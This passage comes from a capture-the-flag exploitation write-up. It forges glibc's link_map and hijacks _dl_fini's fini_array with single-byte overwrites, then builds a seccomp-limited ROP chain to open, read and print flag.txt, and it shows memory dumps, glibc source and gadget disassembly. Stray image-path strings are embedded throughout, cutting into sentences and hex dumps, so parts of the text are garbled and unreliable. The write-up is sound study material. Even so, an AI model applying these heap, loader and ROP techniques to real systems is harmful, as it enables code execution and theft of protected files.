0x7f9cb24900b0: 0x00007f9cb247fbd0  0x0000000000000000

This chunk of memory actually has the same layout as our binary link_map, and infact is libc’s link_map. The pointers here point to all sorts of goodies such as the function lookup table, which I didn’t even attempt to forge as I thought it would be too much of a pain to work out custom functions, if it’s even possible. That’s a whole sub series of libc internals I want to stay away from. Now, when we overwrite this first pointer we get a segfault when trying to jump to what should be the function offset of write from inside dl_runtime_resolve. With RIP being 0x1179a0, or the exact offset to write from the beginning of libc, so with a partial overwrite of this it looks like wecan now control an offset into a function to call, similarly to our write ability with our binary.


The previous primative sounds perfect for gadgets… kind of. You have to remember that any gadget we use will ultimately be called during the lookup, we will need to make a chain that effectively can be called in the moment as well as be stored in memory utilizing our past GOT write, with these we can setup a chain after the pivot to. How do we actually pivot to it though? We don’t control any arguments or registers when the gadgets are called, and there is NO useful data on the stack that points anywhere near where our chain would be. So how do we get to our chain, this is a little out of order as I thought this had to be the intended way and was confident a pivot existed, and was later crushed by the author when his hints made it sound like this was impossible but one hintdid help. On the last night, after learning that he had full control of the arguments for _dl_lookup, which at this point I thought was a dream.

‚Äč last_hint

Even though at this point I knew our approaches were different enough to merit almost giving up, I hoped that maybe there was something of use here, looking at the source code I found one glimmer of hope.

              while (i-- > 0)
                ((fini_t) array[i]) ();

Now how do we get there, as nice as our lookup primative is, it doesn’t actually work for all functions and symbols and as such we can’t use our fake string table to fake acall to _dl_fini. Testing out some different things, I started to wonder if other functions would reference it, the big target being the regular Exit function, as the name _dl_fini suggests maybe this is somethingthat should be called to help clean up memory and a binary, and lo-and-behold we are greeted with execution passing through _dl_fini after calling Exit. After some digging, we are able to determine that this fini_t array above inthe source code is actually the fini array from our binary, at binary+0x3df0.

If you don’t know about the dtors/fini_array, it is a list similar to the one that houses the nightmare call in the beginning of the program usually called the _init_array, but the opposite, instead of helping build up for the binary to execute, it helps tear it down, currently all that is in this list is a pointer to the binary’s function __do_global_dtors_aux. To me the code can be a bit obscur as to how the fini_t array is set but I’ll show you anyways

              ElfW(Addr) *array =
                (ElfW(Addr) *) (l->l_addr
                        + l->l_info[DT_FINI_ARRAY]->d_un.d_ptr);
              unsigned int i = (l->l_info[DT_FINI_ARRAYSZ]->d_un.d_val
                        / sizeof (ElfW(Addr)));
              while (i-- > 0)
                ((fini_t) array[i]) ();

If you can’t figure out what is happening here just by looking I don’t blame you, but what if I told you that l is our binary link_map. Then it may make a moresense, so this is saying that l->addr + l->l_info[fini_array]->ptr is our array, or more precisely. Binary address + fini_array offset, but it is important to realize that we can overwrite the pointer to fini_array offset and the original Binary address, as they both are stored in the link_map; problem is, we still can’t get a pivot to our fake stack this way:

0x558e56a95e08: 0x000000000000000c  0x0000000000001000
0x558e56a95e18: 0x000000000000000d  0x0000000000001478
0x558e56a95e28: 0x0000000000000019  0x0000000000003de0  <--- fini array offset
0x558e56a95e38: 0x000000000000001b  0x0000000000000010
0x558e56a95e48: 0x000000000000001a  0x0000000000003df0  <--- init array offset
0x558e56a95e58: 0x000000000000001c  0x0000000000000008  <--- fini array size
0x558e56a95e68: 0x000000006ffffef5  0x0000558e56a923c0
0x558e56a95e78: 0x0000000000000005  0x0000558e56a92500
0x558e56a95e88: 0x0000000000000006  0x0000558e56a923e0
0x558e56a95e98: 0x000000000000000a  0x00000000000000b6
0x558e56a95ea8: 0x000000000000000b  0x0000000000000018
0x558e56a95eb8: 0x0000000000000015  0x00007f9cb24ca100
0x558e56a95ec8: 0x0000000000000003  0x0000558e56a96000
0x558e56a95ed8: 0x0000000000000002  0x0000000000000090
0x558e56a95ee8: 0x0000000000000014  0x00000000000000070x558e56a95ef8: 0x0000000000000017  0x0000558e56a926d8

We could try to move the fini_array offset to point to something else, but you still need to remember we are dealing with only single byte overwrite, so we will need so stay in the same byte range, sadly no offsets would get us to our fake stack, but you may havenoticed 2 things, first the fini array offset is off by 8 bytes from where it actually is in memory. Looking back at the source, you may see the variable i being set and used as an index, so we are effectivly starting at index 1 and not going lower than that. But this i variable is set from the link map as well so what if we forged the size since it seems to be going from the top index to the bottom first, 0x90 or 0xb6 look like good targets but are still not enough to get us from index 0x3de0, fini array, to 0x4010+, our rop chain location. What about the 0x1000 at the top of the list though, using that we now make the program think fini array has 0x200 indexes and will start at 0x4de0, or writeable memory. Only problem is, we currently can only write 0xfe-ish past _Exit GOT, approx 0x4100, no where near 0x4de0.

I got stuck here for a bit thinking that all the hopes and dreams for a perfect setup had been squashed, until I did some testing, below is the _r_debug data.

0x7f9cb24ca100 <_r_debug>:  0x0000000000004db0  0x00007f9cb24ca207
0x7f9cb24ca110 <_r_debug+16>:   0x00007f9cb24a6170  0x0000000000000000
0x7f9cb24ca120 <_r_debug+32>:   0x00007f9cb2494000  0x0000000000000000
0x7f9cb24ca130: 0x0000000000000000  0x0000000000000000
0x7f9cb24ca140: 0x0000000000000000  0x0000000000000000
0x7f9cb24ca150: 0x0000000000000000  0x0000000000000000
0x7f9cb24ca160: 0x0000000000000000  0x0000000000000000
0x7f9cb24ca170: 0x0000000000000000  0x0000000000000000

At the time, I was under the impression that this data was important and actually thought it was referenced during _ld_fixup, but I thought it was worth a try and zeroed it out, to my surprise no crash. This is the target now. If you remember back, our fake string is located at _r_debug+0x4b, and if we can fake the string table why not fakethe jmp_rel table, as this holds the offset into the binary to truely store the address loaded from _ld_fixup, look how lucky this turned out to be:

0x558e56a95e08: 0x000000000000000c  0x0000000000001000
0x558e56a95e18: 0x000000000000000d  0x0000000000001478
0x558e56a95e28: 0x0000000000000019  0x0000000000003de0  <--- fini array offset
0x558e56a95e38: 0x000000000000001b  0x0000000000000010
0x558e56a95e48: 0x000000000000001a  0x0000000000003df0  <--- init array offset
0x558e56a95e58: 0x000000000000001c  0x0000000000000008  <--- fini array size
0x558e56a95e68:0x000000006ffffef5  0x0000558e56a923c0
0x558e56a95e78: 0x0000000000000005  0x0000558e56a92500  <-- string table
0x558e56a95e88: 0x0000000000000006  0x0000558e56a923e0
0x558e56a95e98: 0x000000000000000a  0x00000000000000b6
0x558e56a95ea8: 0x000000000000000b  0x0000000000000018
0x558e56a95eb8: 0x0000000000000015  0x00007f9cb24ca100  <--- _r_debug
0x558e56a95ec8: 0x0000000000000003  0x0000558e56a96000
0x558e56a95ed8: 0x0000000000000002  0x0000000000000090
0x558e56a95ee8: 0x0000000000000014  0x0000000000000007
0x558e56a95ef8: 0x00000000000000170x0000558e56a926d8  <-- jmp_rel table

With this being on the same 0x100 boundary as _r_debug, we can point it at _r_debug and now have a fake jmp_rel index to write to the 0x4de0 offset we need! With that we can finally create the chain load it into a fake fini array location and jump down the chain.

ROP Till You Drop

I know what you are thinking, the hardest part is done and all that needs to be done is create the chain and win, that is where you would be wrong. If I had to guess I would say that this is the worse part of the challenge and took over 80% of my time on this challenge. For the following reasons,

  1. Each gadget that is stored in our array, will be called in the_dl_runtime_resolve function.This means no gadgets that pop from the stack,or modify RSP as we need a way to get back to our nightmare function successfully.

  2. Each gadget can be at an offest of at most 0xff from a valid function lookup, I don’t know how many times I found a gadget I wanted, but the symbol wouldn’t resolve, or I found a perfect gadget but it isn’t near a function

  3. The function that houses our gadget has to have a return primative that lines up with write as well, this is kind of vague but let’s think this through. Our primative for this exploit is essentially a 1 byte write; then for a lookup we need to setup a string in memory, point to this string, then change to an offset into this function to store in our fini array. This can’t be done all at once, we need to have a setup where we can do all this things without crashing or referencing data from a register that isn’t a pointer. This means jumping into an offset of write, then changing to our function, changing to the address we want to store, change our stack pointer so we don’t overwrite it, change back to the old address of our function, then change back to write, rinserepeat.

  4. We can’t use the RDX register, this may be a bit confusing but look at the assembly below from _dl_fini:

       0x00007ffff7fe2483 <+403>:   mov    r14,QWORD PTR [rax+0x8]
       0x00007ffff7fe2487 <+407>:   mov    rax,QWORD PTR [r15+0x120]
       0x00007ffff7fe248e <+414>:   mov    rsi,QWORD PTR [r15]
       0x00007ffff7fe2491 <+417>:   mov    rdx,QWORD PTR [rax+0x8]
       0x00007ffff7fe2495 <+421>:   add    rsi,r14
       0x00007ffff7fe2498 <+424>:   shr    rdx,0x3
       0x00007ffff7fe249c <+428>:   mov    QWORD PTR [rbp-0x38],rsi0x00007ffff7fe24a0 <+432>:   lea    eax,[rdx-0x1]
       0x00007ffff7fe24a3 <+435>:   lea    r14,[rsi+rax*8]
       0x00007ffff7fe24a7 <+439>:   test   edx,edx
       0x00007ffff7fe24a9 <+441>:   je     0x7ffff7fe24c0 <_dl_fini+464>
       0x00007ffff7fe24ab <+443>:   nop    DWORD PTR [rax+rax*1+0x0]
       0x00007ffff7fe24b0 <+448>:   call   QWORD PTR [r14]                  <-- call our array item
       0x00007ffff7fe24b3 <+451>:   mov    rdx,r14
       0x00007ffff7fe24b6 <+454>:   sub    r14,0x8
       0x00007ffff7fe24ba <+458>:   cmp    QWORD PTR [rbp-0x38],rdx
       0x00007ffff7fe24be <+462>:   jne    0x7ffff7fe24b0 <_dl_fini+448>

    R14 points to our fini array and will be called at line 448, but after it stores this value into RDX thereby clobbering any data we store in there, this wouldn’t be a problem if read, write, and partially open didn’t all use RDX as the third argument. You may be thinking, why not just pivot to the stack at this point if rdx points to your fini array, a call to setcontext would get you a win, but don’t forget point 1 above. All stored values need to be called at least once, so a pivot to rdx will crash our program way before this issue comes up.In my opinion all of these points turned out to be the hardest aspects of this challenge. Hence the name of this section, ROP till you drop, I began to understand why the author thought this was impossible.

So the next section will just show the gadgets I was able to find then will put it all together into a coercive chain to understand. I don’t think I can articulate the approx 20+ hours probably spent just looking for ROP gadgets. I also won’t show the offsets that I had to find within write and them so I could load it into memory successfully. If you want to see them all they are in the exploit file.

RSI Gadget

Looking for gadgets we should lay out what we actually need to do,

mov rax, 2
mov rdi, "flag.txt/x00"
mov rsi, 0
syscall = open syscall
mov rdi, rax
mov rax, 0
mov rsi, {Buffer} for flag to read to
mov rdx, value less than 0x1000 (I'll explain below)
syscall = read syscall
mov rax, 1
mov rdi, 1
mov rsi, {Buffer} To print out flag
mov rdx, value less than 0x1000syscall = write syscall
**Crash gloriously in victory**

This entire chain is dead if we can’t load flag.txt, so this may be one of the most important gadgets. I actually accidently stumbled upon this this gadget as I was working on a dead end earlier and had far harder constraits to work with. But behold,

   0x7f9cb238a8f0 <hcreate>:    endbr64
   0x7f9cb238a8f4 <hcreate+4>:  lea    rsi,[rip+0xfe835]        <--writeable address
   0x7f9cb238a8fb <hcreate+11>: jmp    0x7f9cb238a900 <hcreate_r>
   0x7f9cb238a900 <hcreate_r>:  endbr64
   0x7f9cb238a904 <hcreate_r+4>:    test   rsi,rsi
   0x7f9cb238a907 <hcreate_r+7>:    je     0x7f9cb238a9bb <hcreate_r+187>
   0x7f9cb238a90d <hcreate_r+13>:   push   rbx
   0x7f9cb238a90e <hcreate_r+14>:   xor    eax,eax
   0x7f9cb238a910 <hcreate_r+16>:   cmp    QWORD PTR [rsi],0x0
   0x7f9cb238a914 <hcreate_r+20>:   mov    rbx,rsi
   0x7f9cb238a917 <hcreate_r+23>:   je     0x7f9cb238a920 <hcreate_r+32>
   0x7f9cb238a919 <hcreate_r+25>:   pop    rbx
   0x7f9cb238a91a <hcreate_r+26>:   ret

You can look up the function in further detail but it effectively will create a memory space for a hash table, unless it decides a hashtable has already been created, but the best part is that the address loaded is writeable and we can put “flag.txt” there before we jump to our chain. You may thinking that this is somewhat pointless as RSI is not RDI and we still can’t open it, but what would be the second most important part of the chain?

Syscall and Friends

You probably think that this is an easy gadget to secure, and boy would you be wrong. Thinking this through, we need an open syscall first, why not just call open, since we should be able to look it up and it should pass as syscalls usually don’t cause segfaultsbut just fail. This is why, here are the only two syscalls in the open function:

   0x7f9cb237f664 <open64+84>:  mov    eax,0x101
   0x7f9cb237f669 <open64+89>:  syscall
   0x7f9cb237f6dd <open64+205>: mov    eax,0x101
   0x7f9cb237f6e2 <open64+210>: syscall

Now who in the right mind thought that the open function should use open the open_at syscall instead. Now not only is this function dead, but there are no instances of mov r/eax, 0; syscall or something similar that is usable anywhere in libc. Normally this wouldn’t be a problem but the seccomp limits us and any other syscalls ran will kill execution. This is also the reason we can’t just jump right before a syscall, such as open64+89, as RAX is clobbered during _dl_fixup and stops us from just saving a raw syscall. So we need a way around this, what about the syscall function:

   0x00007f9cb2389930 <+0>: endbr64
   0x00007f9cb2389934 <+4>: mov    rax,rdi
   0x00007f9cb2389937 <+7>: mov    rdi,rsi
   0x00007f9cb238993a <+10>:    mov    rsi,rdx
   0x00007f9cb238993d <+13>:    mov    rdx,rcx
   0x00007f9cb2389940 <+16>:    mov    r10,r8
   0x00007f9cb2389943 <+19>:    mov    r8,r9
   0x00007f9cb2389946 <+22>:    mov    r9,QWORD PTR [rsp+0x8]
   0x00007f9cb238994b <+27>:    syscall
   0x00007f9cb238994d <+29>:    cmp    rax,0xfffffffffffff001
   0x00007f9cb2389953 <+35>:    jae    0x7f9cb2389956 <syscall+38>
   0x00007f9cb2389955 <+37>:    ret
   0x00007f9cb2389956 <+38>:    mov    rcx,QWORD PTR [rip+0xf64b3]        # 0x7f9cb247fe10
   0x00007f9cb238995d <+45>:    neg    eax0x00007f9cb238995f <+47>:    mov    DWORD PTR fs:[rcx],eax
   0x00007f9cb2389962 <+50>:    or     rax,0xffffffffffffffff
   0x00007f9cb2389966 <+54>:    ret

This bundles a syscall into argument style, so not only could we set RDI to 2 then call this, this will also move our flag into RDI to complete the write, and we can call this from our lookup as RDI will be 1 for the write call, making this turn into a write call that ultimately fails in the original lookup. This would be perfect except 1 issue… mov rsi,rdx. We have no control or RDX except we can guarantee it will point to our last gadget called in our fini_array. So the only way I could think of to do this is to use the beauty of syscalls, sub rcx, rax, and a push rcx; ret.

If you are not aware syscalls will use the registers in this order rdi, rsi, rdx, r10,r8,r9, why no RCX? Infact, RCX is set to the next address after a syscall, so if we have a successful or not successful syscall the return(? not sure what else to call it) address is stored into RCX, then we just subtract 2 bytes and find a way to jump to RCX. There were jump RCX gadgets, but for some reason I decided on the push rcx; ret, can’t remember if I just couldn’t find a working jmp ornot. You may be thinking that this shouldn’t pass the lookup function, but it does barely. Using the ability above, after a syscall, RCX is set, which means that RCX points to the address right after the syscall in read, so we push that address and then return safely back to nightmare

So here are the two gadgets:

   0x7f9cb22cc3fa <printf_size_info+26>:    mov    eax,0x1
   0x7f9cb22cc3ff <printf_size_info+31>:    ret

   0x7f9cb22fa888 <_IO_adjust_column+40>:   sub    rcx,rax
   0x7f9cb22fa88b <_IO_adjust_column+43>:   lea    eax,[rcx-0x1]
